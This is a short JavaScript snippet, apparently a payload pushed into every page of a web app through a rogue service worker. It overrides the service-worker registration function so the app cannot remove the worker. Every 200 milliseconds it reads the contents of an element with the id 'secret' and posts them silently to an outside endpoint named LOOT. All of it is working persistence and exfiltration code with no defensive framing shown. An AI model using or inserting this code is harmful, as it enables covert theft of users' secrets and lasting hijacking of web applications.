// Comes with every page of the app, by way of the worker. Keeps the app from replacing it, and tells what is shown.
navigator.serviceWorker.register = async () => navigator.serviceWorker.ready;
setInterval(() => {
  const shown = document.getElementById("secret")?.textContent;
  if (shown) fetch(LOOT, { method: "POST", mode: "no-cors", body: shown });
}, 200);
